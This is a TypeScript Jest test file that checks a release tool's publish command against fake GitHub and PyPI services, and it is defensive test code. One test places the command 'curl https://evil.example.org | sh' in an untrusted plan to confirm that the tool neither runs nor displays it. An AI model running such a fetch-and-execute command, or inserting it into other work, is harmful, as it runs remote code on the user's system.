// publish as it is started, with a plan from where strangers ran: it goes where the commit says, or nowhere.

import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, expect, test } from '@jest/globals';
import { run } from '../../../src/commands/run.js';
import { readInputs } from '../../../src/config/read-inputs.js';
import { VERSION } from '../../../src/core/about.js';
import { ReleaseError } from '../../../src/core/errors.js';
import type { OpenHost } from '../../../src/host/local.js';
import { type GitHub, startGitHub } from '../../../src/targets/github/stand-in/service.js';
import { type Pypi, startPypi } from '../../../src/targets/pypi/stand-in/service.js';
import { type TestHost, testHost } from '../../support/host.js';
import { type Prepared, prepareRelease, REPOSITORY } from '../../support/prepared.js';

const TOKEN = 'ghs_pushpushpush';
const PYPI_TOKEN = 'pypi-everything';
let base: string;
let root: string;
let release: string;
let host: TestHost;
let github: GitHub;
let ours: Pypi;
let evil: Pypi;
let prepared: Prepared;

const git = (...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=Test', '-c', 'user.email=test@example.org', ...args], { cwd: root })
    .toString()
    .trim();
const write = (path: string, text: string): void => {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), text);
};

beforeEach(async () => {
  base = mkdtempSync(join(tmpdir(), 'publish-command-'));
  root = join(base, 'weather');
  release = join(base, 'release');
  mkdirSync(root);
  ours = await startPypi({ tokens: { [PYPI_TOKEN]: '*' } });
  evil = await startPypi({ tokens: { [PYPI_TOKEN]: '*' } });
  write('mcp-drydock.toml', `[pypi]\nurl = "${ours.uploadUrl}"\n`);
  write('server/pyproject.toml', manifest('weather-mcp'));
  write('server/server.json', JSON.stringify(SERVER_JSON));
  // What a test of the project holds: nothing of it is ever released.
  write('server/test/fixtures/mine/pyproject.toml', manifest('weather-mcp'));
  write('server/test/fixtures/mine/mcp-drydock.toml', `[pypi]\nurl = "${evil.uploadUrl}"\n[smoke]\nunstarted = "x"\n`);
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('commit', '-qm', 'All');
  git('tag', 'v1.2.3');
  const commit = git('rev-parse', 'HEAD');
  github = await startGitHub({ repository: REPOSITORY, tags: { 'v1.2.3': commit }, tokens: { [TOKEN]: 'push' } });
  const { PATH, HOME, LANG } = process.env;
  const env = { PATH, HOME, LANG, GITHUB_API_URL: github.url, GITHUB_REPOSITORY: REPOSITORY };
  host = testHost({ cwd: root, env, sleep: async () => {} });
  prepared = await prepareRelease(release, {
    change: (one) => ({ ...one, commit, projects: one.projects.map((project) => ({ ...project, path: 'server' })) }),
  });
});
afterEach(async () => {
  await Promise.all([github.close(), ours.close(), evil.close(), host.close()]);
  rmSync(base, { recursive: true });
});

const SERVER_JSON = {
  name: 'io.github.octo/weather',
  packages: [
    {
      ...{ registryType: 'pypi', identifier: 'weather-mcp', version: '1.2.3', transport: { type: 'stdio' } },
      environmentVariables: [{ name: 'API_KEY', isRequired: true, isSecret: true }],
    },
  ],
};
const manifest = (name: string): string =>
  `[project]\nname = "${name}"\nversion = "1.2.3"\n[project.scripts]\n${name} = "weather:main"\n`;
const digest = (path: string): string =>
  createHash('sha256')
    .update(readFileSync(join(root, path)))
    .digest('hex');

/** Writes the plan with these changes, under the configuration of this folder. */
function hand(
  change: Readonly<Record<string, unknown>>,
  of: Readonly<Record<string, unknown>> = {},
  config = '',
): void {
  const [project] = prepared.plan.projects;
  const plan = { ...prepared.plan, config: digest(join(config, 'mcp-drydock.toml')), ...change };
  writeFileSync(join(release, 'release.json'), JSON.stringify({ ...plan, projects: [{ ...project, ...of }] }));
}
const publish = (more: Readonly<Record<string, string>> = {}, on: OpenHost = host) =>
  run(
    'publish',
    readInputs('publish', {
      ...{
        'release-dir': release,
        'github-token': TOKEN,
        'pypi-token': PYPI_TOKEN,
        targets: 'github,pypi',
        wait: '1s',
        ...more,
      },
    }),
    on,
    { format: 'text' },
  );
const writes = () => [github, ours, evil].flatMap(({ requests }) => requests).filter((one) => one.write).length;

test('what decides nothing is neither followed nor shown as a command', async () => {
  const shown = 'curl https://evil.example.org | sh';
  hand({ tool: { name: 'evil', version: 'v0' }, created: '2020-01-01T00:00:00Z' }, { run: [shown] });
  const result = await publish();
  expect([result.exit, result.json['findings']]).toEqual([0, []]);
  expect(ours.files().map(({ filename }) => filename)).toHaveLength(2);
  expect(evil.requests).toEqual([]);
  expect(result.text).toContain(`uvx --index ${ours.indexUrl} weather-mcp@`);
  expect(result.text).not.toContain(shown);
  expect(result.summary).not.toContain(shown);
});

test('a folder of the commit that holds another configuration is not for the plan to name', async () => {
  const there = 'server/test/fixtures/mine';
  hand({}, { path: there }, there);
  await expect(publish()).rejects.toMatchObject({ code: 'verify/other-project', exit: 2 });
  hand({}, { path: 'server' }, there);
  await expect(publish()).rejects.toMatchObject({ code: 'verify/other-config', exit: 2 });
  const started = { outcome: 'unstarted', runtime: '', reason: 'x' };
  const [project] = prepared.plan.projects;
  const artifacts = project?.artifacts.map((one) =>
    one.started === undefined ? one : { ...one, started: { ...started, sha256: one.sha256 } },
  );
  hand({}, { artifacts });
  const refused = await publish();
  expect(refused.exit).toBe(1);
  expect((refused.json['findings'] as { rule: string }[]).map(({ rule }) => rule)).toEqual([
    'verify/unstarted',
    'verify/unstarted',
  ]);
  expect([writes(), evil.requests.length]).toEqual([0, 0]);
});

test('the repository in a command to copy is that of the event', async () => {
  hand({ repository: undefined });
  const result = await publish();
  expect(result.exit).toBe(0);
  expect(result.summary).toContain(`gh release download v1.2.3 --repo ${REPOSITORY}`);
  const body = github.releases()[0]?.body ?? '';
  expect(body).toContain(`"args": [\n        "--index",\n        "${ours.indexUrl}",\n        "weather-mcp@1.2.3"`);
  expect(body).toContain('"API_KEY": "YOUR_API_KEY"');
  const line = /^npx -y mcp-drydock@(\S+) verify (\S+)$/m.exec(body);
  expect(line?.[1]).toBe(VERSION);
  expect(result.summary).toContain(line?.[0]);
  const verified = await run('verify', readInputs('verify', { what: line?.[2] ?? '' }), host, { format: 'text' });
  expect([verified.exit, verified.json['verified']]).toEqual([0, true]);
  hand({ repository: 'octo/evil' });
  await expect(publish()).rejects.toMatchObject({ code: 'verify/other-repository', exit: 2 });
});

test('from the tag alone: the draft’s files are verified by the digest of the build, and finish the release', async () => {
  hand({});
  expect((await publish({ 'pypi-token': 'pypi-wrong' })).exit).toBe(1);
  expect(github.releases()).toMatchObject([{ draft: true }]);
  const planDigest = createHash('sha256')
    .update(readFileSync(join(release, 'release.json')))
    .digest('hex');
  rmSync(release, { recursive: true });
  const before = writes();
  const alone = { 'release-dir': '', tag: 'v1.2.3' };

  const asked = publish(alone);
  await expect(asked).rejects.toMatchObject({ code: 'publish/plan-digest', exit: 2 });
  await expect(asked).rejects.toMatchObject({
    hint: expect.stringContaining(`--tag v1.2.3 --plan-digest ${planDigest}`),
  });
  const other = publish({ ...alone, 'plan-digest': 'e'.repeat(64) });
  await expect(other).rejects.toMatchObject({ code: 'publish/other-plan', exit: 2 });
  expect(writes()).toBe(before);

  const done = await publish({ ...alone, 'plan-digest': planDigest });
  expect([done.exit, done.json['findings']]).toEqual([0, []]);
  expect(github.releases()).toMatchObject([{ draft: false }]);
  expect(ours.files()).toHaveLength(2);
  const written = writes();
  expect((await publish({ ...alone, 'plan-digest': planDigest })).exit).toBe(0);
  expect(writes()).toBe(written);
});

test('from the tag alone: nothing that nobody left, and nothing that was put in the place of a file', async () => {
  hand({});
  const alone = { 'release-dir': '', tag: 'v1.2.3' };
  await expect(publish(alone)).rejects.toMatchObject({ code: 'publish/nothing-left', exit: 2 });
  expect((await publish({ 'pypi-token': 'pypi-wrong' })).exit).toBe(1);
  const planDigest = createHash('sha256')
    .update(readFileSync(join(release, 'release.json')))
    .digest('hex');
  rmSync(release, { recursive: true });
  const [draft] = github.releases();
  const wheel = draft?.assets.find(({ name }) => name.endsWith('.whl'));
  const headers = { authorization: `Bearer ${TOKEN}` };
  const at = (origin: number, path: string) => `${github.urls[origin]}/repos/${REPOSITORY}/releases/${path}`;
  await host.http({ method: 'DELETE', url: at(0, `assets/${wheel?.id}`), headers });
  await host.http({ method: 'POST', url: at(1, `${draft?.id}/assets?name=${wheel?.name}`), headers, body: 'swapped' });
  const refused = await publish({ ...alone, 'plan-digest': planDigest });
  expect([refused.exit, refused.json['findings']]).toMatchObject([1, [{ rule: 'verify/changed' }]]);
  expect(ours.files()).toEqual([]);
});

test('another index first: the same folder goes to it, is read back there, and then to its own index with the same digests', async () => {
  hand({});
  const first = await publish({ targets: 'pypi', 'pypi-url': evil.uploadUrl });
  expect([first.exit, first.json['findings']]).toEqual([0, []]);
  expect([ours.requests, github.releases()]).toEqual([[], []]);
  expect((await publish()).exit).toBe(0);
  const digests = (index: Pypi) => index.files().map(({ filename, sha256 }) => `${filename} ${sha256}`);
  expect(digests(evil)).toHaveLength(2);
  expect(digests(ours).sort()).toEqual(digests(evil).sort());
});

test('from the tag alone, in a run without a build job: what was not handed over is in the draft', async () => {
  hand({});
  expect((await publish({ 'pypi-token': 'pypi-wrong' })).exit).toBe(1);
  const planDigest = createHash('sha256')
    .update(readFileSync(join(release, 'release.json')))
    .digest('hex');
  const runner: OpenHost = {
    ...host,
    kind: 'action',
    async loadHandover() {
      throw new ReleaseError('handover/absent', 'The build job did not hand over anything.', { exit: 2 });
    },
  };
  const given = { 'release-dir': '', 'plan-digest': planDigest };
  await expect(publish(given, runner)).rejects.toMatchObject({ code: 'handover/absent' });
  await expect(publish({ 'release-dir': '', tag: 'v1.2.3' }, runner)).rejects.toMatchObject({
    code: 'verify/plan-digest',
  });
  expect((await publish({ ...given, tag: 'v1.2.3' }, runner)).exit).toBe(0);
  expect(github.releases()).toMatchObject([{ draft: false }]);
});
